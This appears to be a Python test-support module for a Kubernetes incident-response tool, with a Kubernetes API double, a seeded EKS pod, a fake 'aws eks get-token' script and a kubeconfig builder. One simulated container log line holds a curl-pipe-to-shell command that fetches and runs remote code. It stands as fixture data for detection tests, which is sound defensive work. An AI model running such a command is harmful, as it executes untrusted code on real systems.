"""The Kubernetes API double for tests (the server itself lives in ``responder.sandbox.k8s`` so the
sandbox can use it too) and the pod most tests meet: the one the fixtures' findings name.

Objects follow the Kubernetes API reference (core/v1 Pod, Node, ServiceAccount, Event; rbac/v1 bindings;
networking/v1 NetworkPolicy); identifiers match ``tests/fixtures/k8s/`` (see its SOURCES.md).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from responder.k8s.access import SANDBOX_ENV
from responder.sandbox.k8s import KubeDouble, merge_patch, running_double, status

__all__ = [
    "ARN",
    "CLUSTER",
    "FIXTURES",
    "NAMESPACE",
    "NODE",
    "POD",
    "POD_UID",
    "ROLE_ARN",
    "KubeDouble",
    "eks_kubeconfig",
    "fixture_event",
    "install_fake_aws_cli",
    "merge_patch",
    "running_double",
    "seed_pod",
    "serve_seeded",
    "status",
]

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "k8s"
CLUSTER = "prod-eks"
NAMESPACE = "payments"
POD = "web-7d4b9c8f6-x2k9p"
POD_UID = "5f0c7a3e-2b8d-4e61-9c1a-7d3e8f2b6a41"
NODE = "ip-10-0-1-23.ec2.internal"
ROLE_ARN = "arn:aws:iam::123456789012:role/payments/web-irsa"


def seed_pod(double: KubeDouble, **overrides: Any) -> dict[str, Any]:
    """A Deployment's pod with two containers (one restarted), IRSA, two bindings and a neighbour pod."""
    pod = double.add_pod(
        NAMESPACE,
        overrides.pop("name", POD),
        uid=overrides.pop("uid", POD_UID),
        node_name=NODE,
        service_account="web",
        labels={"app": "web", "pod-template-hash": "7d4b9c8f6"},
        owner={"kind": "ReplicaSet", "name": "web-7d4b9c8f6"},
        containers=[
            {"name": "app", "image": "123456789012.dkr.ecr.us-east-1.amazonaws.com/payments/web:4.2.1"},
            {"name": "envoy", "image": "public.ecr.aws/appmesh/aws-appmesh-envoy:v1.29.4.0-prod"},
        ],
        logs={
            "app": "2026-11-20T09:12:50Z started\n2026-11-20T09:12:51Z sh -c 'curl -s http://x/m | sh'\n",
            "envoy": "2026-11-20T09:00:00Z envoy ready\n",
        },
        previous_logs={"app": "2026-11-20T08:59:00Z OOMKilled after 2.1 GiB\n"},
        **overrides,
    )
    double.annotate_service_account(NAMESPACE, "web", {"eks.amazonaws.com/role-arn": ROLE_ARN})
    double.add_role_binding(NAMESPACE, "web-reader", "config-reader", NAMESPACE, "web")
    double.add_role_binding("", "web-node-proxy", "node-proxy", NAMESPACE, "web", cluster=True)
    double.add_role_binding(NAMESPACE, "other", "config-reader", NAMESPACE, "batch")
    double.add_pod(
        NAMESPACE,
        "web-7d4b9c8f6-q8w2e",
        node_name=NODE,
        service_account="web",
        labels={"app": "web", "pod-template-hash": "7d4b9c8f6"},
        owner={"kind": "ReplicaSet", "name": "web-7d4b9c8f6"},
    )
    return pod


def fixture_event(name: str) -> dict[str, Any]:
    return json.loads((FIXTURES / name).read_text())


def serve_seeded(monkeypatch: pytest.MonkeyPatch) -> Iterator[KubeDouble]:
    """A running double seeded with :func:`seed_pod`, reachable as cluster ``prod-eks``.

    Test modules wrap it in their own ``kube`` fixture: ``yield from serve_seeded(monkeypatch)``.
    """
    with running_double() as double:
        seed_pod(double)
        monkeypatch.setenv(SANDBOX_ENV, json.dumps({CLUSTER: {"host": double.url}}))
        yield double


# ---------------------------------------------------------------------------------------------
# kubeconfig files as tools write them
ARN = "arn:aws:eks:us-east-1:123456789012:cluster/prod-eks"  # the fixtures' cluster, as EKS names it
FAKE_AWS = '''#!{python}
"""Stands in for the AWS CLI's ``aws eks get-token`` (same arguments, same ExecCredential output)."""
import json, os, sys
from datetime import datetime, timedelta, timezone
args = sys.argv[1:]
assert args[args.index("get-token") - 1] == "eks", args
with open(os.environ["FAKE_AWS_LOG"], "a") as log:
    log.write(json.dumps({{"args": args, "profile": os.environ.get("AWS_PROFILE"),
                          "exec_info": json.loads(os.environ["KUBERNETES_EXEC_INFO"])}}) + "\\n")
expires = (datetime.now(timezone.utc) + timedelta(minutes=14)).strftime("%Y-%m-%dT%H:%M:%SZ")
print(json.dumps({{"kind": "ExecCredential", "apiVersion": "client.authentication.k8s.io/v1beta1", "spec": {{}},
                  "status": {{"expirationTimestamp": expires, "token": {token!r}}}}}))
'''


def install_fake_aws_cli(folder: Path, token: str) -> Path:
    """An ``aws`` executable in ``folder`` (put it first on PATH), printing ``token`` as ``aws eks get-token`` would."""
    import sys

    folder.mkdir(parents=True, exist_ok=True)
    script = folder / "aws"
    script.write_text(FAKE_AWS.format(python=sys.executable, token=token))
    script.chmod(0o755)
    return script


def eks_kubeconfig(
    server: str, *, cluster_arn: str = ARN, profile: str = "incident-response", ca_data: str | None = None
) -> dict[str, Any]:
    """What ``aws eks update-kubeconfig --name prod-eks`` writes: cluster, user and context all named by the
    cluster's ARN, the user an ``exec`` plugin running ``aws eks get-token`` (AWS CLI v2 layout)."""
    cluster: dict[str, Any] = {"server": server}
    if ca_data:
        cluster["certificate-authority-data"] = ca_data
    region = cluster_arn.split(":")[3]
    name = cluster_arn.rsplit("/", 1)[-1]
    return {
        "apiVersion": "v1",
        "kind": "Config",
        "preferences": {},
        "current-context": cluster_arn,
        "clusters": [{"name": cluster_arn, "cluster": cluster}],
        "contexts": [{"name": cluster_arn, "context": {"cluster": cluster_arn, "user": cluster_arn}}],
        "users": [
            {
                "name": cluster_arn,
                "user": {
                    "exec": {
                        "apiVersion": "client.authentication.k8s.io/v1beta1",
                        "command": "aws",
                        "args": ["--region", region, "eks", "get-token", "--cluster-name", name, "--output", "json"],
                        "env": [{"name": "AWS_PROFILE", "value": profile}],
                    }
                },
            }
        ],
    }
